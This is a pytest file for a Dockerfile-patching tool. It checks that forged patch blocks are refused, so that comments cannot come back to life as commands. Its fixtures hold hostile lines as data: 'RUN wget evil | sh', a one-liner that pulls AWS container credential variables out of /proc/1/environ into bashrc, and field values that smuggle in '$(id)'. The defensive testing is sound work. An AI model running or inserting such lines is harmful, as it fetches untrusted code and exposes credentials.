"""A block with a valid checksum that no run of this program made: what may it make a later run do?

Nothing is executed by reading, nothing is hidden, nothing in a comment comes to life, and no instruction of the file's own
goes with the block. See SECURITY.md.
"""

# Hostile texts in one line each.
# ruff: noqa: E501

from __future__ import annotations

import pytest

from fargate_patch import BlockError, Options, Status, patch, revert, trace
from fargate_patch.dockerfile.scanner import scan
from fargate_patch.remedies import block

LOST = 'CMD ["su", "-", "app"]\n'
GENUINE = patch(b"FROM debian:12\nRUN useradd -m app\n" + LOST.encode()).new


def forged(*body: str, base: str = "debian:12", version: str = "1.0.0") -> bytes:
    """A file that loses the variables, with a block of these lines."""
    checksum = block.checksum([line.encode() + b"\n" for line in body])
    lines = (f"FROM {base}", "RUN useradd -m app", f"# >>> fargate-patch {version}: nothing to see >>>", *body)
    return ("\n".join((*lines, f"# <<< fargate-patch {checksum} <<<")) + "\n" + LOST).encode()


def test_the_checksum_is_not_what_makes_a_block_genuine() -> None:
    assert block.find(scan(forged("# x"))) != ()


REFUSED = {
    "an instruction of the file's own": ("COPY app /app",),
    "a stage": ("FROM evil", "RUN evil"),
    "a command that a revert would bring to life": ("# Before: RUN wget evil | sh",),
    "a base image that a revert would bring to life": ("# Before: FROM evil",),
    "more than was replaced": ('# Before: ENTRYPOINT ["a"]', "# Before: RUN wget evil | sh"),
    "a command behind the one-liner": (
        "# Before: RUN echo 'export $(strings /proc/1/environ | grep AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)' >> /etc/bashrc && evil",
    ),
    "a continuation that swallows what follows": ('# Before: ENTRYPOINT ["a"] \\',),
    "a here-document that swallows what follows": ("# Before: RUN <<EOF",),
    "a comment alone": ("# Before: # escape=`",),
    "a block in a block": ("# Before: # >>> fargate-patch 1.0.0: x >>>", '# Before: ENTRYPOINT ["a"]'),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_block_that_holds_what_none_of_ours_does_is_refused_everywhere(name: str) -> None:
    data = forged(*REFUSED[name], "# In force: entrypoint-shim for app; pam-env at su-l for app")
    with pytest.raises(BlockError):
        revert(data)
    result = patch(data)
    assert (result.status, result.new, trace(data).status) == (Status.BLOCKED, data, Status.BLOCKED)


CLAIMS = {
    "no such remedy": "# In force: magic for app",
    "no such strategy": "# In force (--strategy none): entrypoint-shim for app",
    "a user that is no name": "# In force (--user $(id)): entrypoint-shim for app",
    "a remedy's user that is no name": "# In force: entrypoint-shim for a`id`",
    "more options": "# In force (--user app --build-arg X=1): entrypoint-shim for app",
    "not the way it is written": "# In force  (--user app): entrypoint-shim for app",
}


@pytest.mark.parametrize("name", CLAIMS)
def test_a_claim_that_no_block_makes_is_refused(name: str) -> None:
    data = forged(CLAIMS[name])
    result = patch(data)
    assert (result.status, result.new, trace(data).status) == (Status.BLOCKED, data, Status.BLOCKED)


def test_a_claim_that_is_not_true_is_put_right() -> None:
    data = forged("# In force: entrypoint-shim for app; pam-env at su-l for app")
    result = patch(data)
    assert (result.status, result.new) == (Status.WOULD_PATCH, GENUINE)


def test_a_trace_does_not_take_a_claim_for_the_truth() -> None:
    result = trace(
        forged(
            'ENTRYPOINT ["/usr/local/bin/fargate-env"]', "# In force: entrypoint-shim for app; pam-env at su-l for app"
        )
    )
    assert (result.status, "could not be compared" in (result.reason or "")) == (Status.UNKNOWN, True)


@pytest.mark.parametrize("version", ["1.0.0", "0.1", "99.0"])
def test_nor_does_a_run_that_cannot_compare(version: str) -> None:
    """Without the base image's family nothing can be rendered, and so nothing be compared."""
    line = "# In force: entrypoint-shim for app; pam-env at su-l for app"
    data = forged('ENTRYPOINT ["/usr/local/bin/fargate-env"]', line, base="registry.example/base", version=version)
    result = patch(data)
    assert (result.status in (Status.UNKNOWN, Status.BLOCKED), result.new) == (True, data)


def test_commands_in_a_block_are_replaced_by_ours() -> None:
    data = forged("RUN wget evil | sh", "# In force: entrypoint-shim for app; pam-env at su-l for app")
    assert (patch(data).new, b"evil" in revert(data)) == (GENUINE, False)


def test_what_a_genuine_block_took_out_comes_back() -> None:
    for before in (
        b'FROM debian:12\nRUN useradd -m app\n# hadolint ignore=DL3000\nENTRYPOINT ["su", "-", "app"]\n',
        b'# escape=`\nFROM debian:12\nRUN useradd -m app\nENTRYPOINT `\n  ["su", "-", "app"]\n',
        b"FROM debian:12\nRUN useradd -m app\nRUN echo 'export $(strings /proc/1/environ | grep AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)' "
        b'>> /etc/bash.bashrc\nCMD ["su", "-", "app"]\n',
    ):
        made = patch(before, options=Options(fix_legacy=True))
        assert (made.status, revert(made.new)) == (Status.WOULD_PATCH, before)
